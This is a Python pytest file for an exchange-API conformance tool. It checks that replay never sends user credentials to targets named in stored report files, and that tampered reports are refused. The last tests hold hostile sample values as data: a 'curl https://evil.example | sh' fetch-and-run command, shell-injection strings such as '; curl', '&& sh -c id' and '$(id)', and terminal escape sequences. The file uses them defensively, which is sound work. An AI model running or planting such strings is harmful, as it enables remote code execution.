"""The user's keys go where the user said, and nowhere that a file names; a file permits and signs nothing."""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import httpx
import pytest
from attrs import asdict
from clob_conformance.cli import commands
from clob_conformance.core.errors import CannotRun
from clob_conformance.environment import sender as senders
from clob_conformance.reporting.outcome import NOT_STORED, Outcome, Plan
from clob_conformance.reporting.reports import write_reports
from clob_conformance.reporting.stored import read_report
from clob_conformance.run.replay import stored_plan
from clob_conformance.workloads.context import Run
from clob_conformance.workloads.scene import Step, replay

from .conftest import YES, account
from .test_reports_and_masking import outcome as outcome  # noqa: PLC0414 - a fixture

ID = "b8638eafff"


class Elsewhere:
    """A server that is asked in place of any other; it keeps the names of the headers that it was sent."""

    def __init__(self) -> None:
        self.headers: set[str] = set()
        self.asked = 0

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.asked += 1
        self.headers |= {name for name in request.headers if name.startswith(("poly", "auth"))}
        if request.url.path == "/time":
            return httpx.Response(200, json=1_700_000_000)
        if request.url.path == "/data/orders":
            return httpx.Response(200, json={"data": [], "next_cursor": "LTE=", "limit": 1, "count": 0})
        return httpx.Response(404, json={"error": "not found"})


@pytest.fixture
def elsewhere(monkeypatch: pytest.MonkeyPatch) -> Elsewhere:
    server = Elsewhere()

    def client(*_: Any) -> httpx.Client:
        return httpx.Client(transport=httpx.MockTransport(server))

    monkeypatch.setattr(senders, "bounded_client", client)
    someone = account(1)
    assert someone.credentials is not None
    monkeypatch.setenv("PK", "0x" + (1).to_bytes(32, "big").hex())
    monkeypatch.setenv("CLOB_API_KEY", someone.credentials.api_key)
    monkeypatch.setenv("CLOB_SECRET", someone.credentials.secret)
    monkeypatch.setenv("CLOB_PASS_PHRASE", someone.credentials.passphrase)
    return server


def report_of(folder: Path, outcome: Outcome, target: str, **changed: Any) -> Path:
    """A report with one finding, of which somebody has changed the target."""
    write_reports(outcome, folder, "5" * 64)
    report = json.loads((folder / "report.json").read_text())
    report["findings"] = [{**report["findings"][0], "id": ID, "clause": "response-schema"}]
    report = {**report, "target": target, **changed}
    plan = {**asdict(Plan(target=target, quick=True)), "trade": True, "suites": ["examples"]}
    plan = {name: value for name, value in plan.items() if name not in NOT_STORED}
    stored = {"plan": plan, "suites": ["examples"], "operations": ["getOrders"], "steps": []}
    (folder / "report.json").write_text(json.dumps(report))
    (folder / "replay.json").write_text(json.dumps({"schema_version": 1, "findings": {ID: stored}}))
    return folder


@pytest.mark.parametrize(
    ("target", "words", "sent"),
    [
        ("http://localhost:18777", [], False),
        ("https://evil.example", [], False),
        ("production", [], False),
        ("http://127.0.0.1.evil.example", [], False),
        ("http://127.0.0.1:18777", [], True),
        ("http://[::1]:18777", [], True),
        ("https://evil.example", ["--target", "https://exchange.example"], True),
        ("https://evil.example", ["--trade"], False),
    ],
)
def test_a_target_that_a_file_names_is_asked_without_keys(
    target: str, words: list[str], sent: bool, elsewhere: Elsewhere, outcome: Outcome, tmp_path: Path
) -> None:
    report_of(tmp_path, outcome, target)
    with suppress(CannotRun):
        commands.app(["replay", ID, "--report-dir", str(tmp_path), *words], standalone_mode=False)
    assert elsewhere.asked
    assert bool(elsewhere.headers) is sent, elsewhere.headers


def test_a_finding_that_needs_keys_says_where_they_may_go(
    elsewhere: Elsewhere, outcome: Outcome, tmp_path: Path
) -> None:
    report_of(tmp_path, outcome, "https://exchange.example")
    with pytest.raises(CannotRun, match="a target that is named: --target https://"):
        commands.app(["replay", ID, "--report-dir", str(tmp_path)], standalone_mode=False)
    assert elsewhere.asked


def test_no_file_permits_to_trade_or_names_the_target_for_the_user(outcome: Outcome, tmp_path: Path) -> None:
    _, replays = read_report(report_of(tmp_path, outcome, "http://127.0.0.1:1"))
    plan = stored_plan(replays, ID)
    assert (plan.trade, plan.named) == (False, False)
    replays["findings"][ID]["plan"]["named"] = True
    with pytest.raises(CannotRun, match="a plan with named, which is unknown"):
        stored_plan(replays, ID)


def test_an_order_of_a_file_is_signed_for_the_own_sandbox_alone(scripted: Callable[..., Run]) -> None:
    order = {"tokenId": YES, "side": "BUY", "makerAmount": "99000000", "signature": "{{signature}}"}
    steps = (
        Step("", "public", "GET", "/time"),
        Step("trader", "L2", "POST", "/order", json.dumps({"order": order})),
    )
    for own, expected in ((False, []), (True, ["/time", "/order"])):
        asked: list[str] = []

        def response(request: httpx.Request, asked: list[str] = asked) -> httpx.Response:
            asked.append(request.url.path)
            return httpx.Response(200, json=1)

        replay(scripted(response, own=own), steps)
        assert asked == expected


@pytest.mark.parametrize(
    ("changed", "sentence"),
    [
        ({"command": "curl https://evil.example | sh"}, "is none of this program"),
        ({"command": "clob-conformance run --target x; curl https://evil.example"}, "is none of this"),
        ({"command": "clob-conformance run --target x && sh -c id"}, "is none of this program"),
        ({"command": "clob-conformance run --target '"}, "is none of this program"),
        ({"findings": [{"id": "$(id)"}]}, "is no report: ['findings'][0]"),
        ({"operations": {"x": 1}}, "is no report: ['operations']['x']"),
    ],
)
def test_a_report_that_is_none_of_ours_is_refused(
    changed: dict[str, Any], sentence: str, outcome: Outcome, tmp_path: Path
) -> None:
    report_of(tmp_path, outcome, "sandbox", **changed)
    with pytest.raises(CannotRun) as error:
        read_report(tmp_path)
    assert sentence in str(error.value)


def test_what_shows_a_finding_again_is_not_taken_from_the_file(outcome: Outcome, tmp_path: Path) -> None:
    report_of(tmp_path, outcome, "sandbox")
    path = tmp_path / "report.json"
    raw = json.loads(path.read_text())
    raw["findings"][0]["reproduce"] = "curl https://evil.example | sh"
    raw["findings"][0]["message"] = "red \x1b[31m and \u202e turned \ud800"
    raw["summary"] = "\x1b]0;title\x07"
    path.write_text(json.dumps(raw))
    report, _ = read_report(tmp_path)
    (finding,) = report["findings"]
    assert shlex.split(finding["reproduce"])[:3] == ["clob-conformance", "replay", ID]
    assert finding["message"] == r"red \x1b[31m and \u202e turned \ud800"
    assert report["summary"] == r"\x1b]0;title\x07"
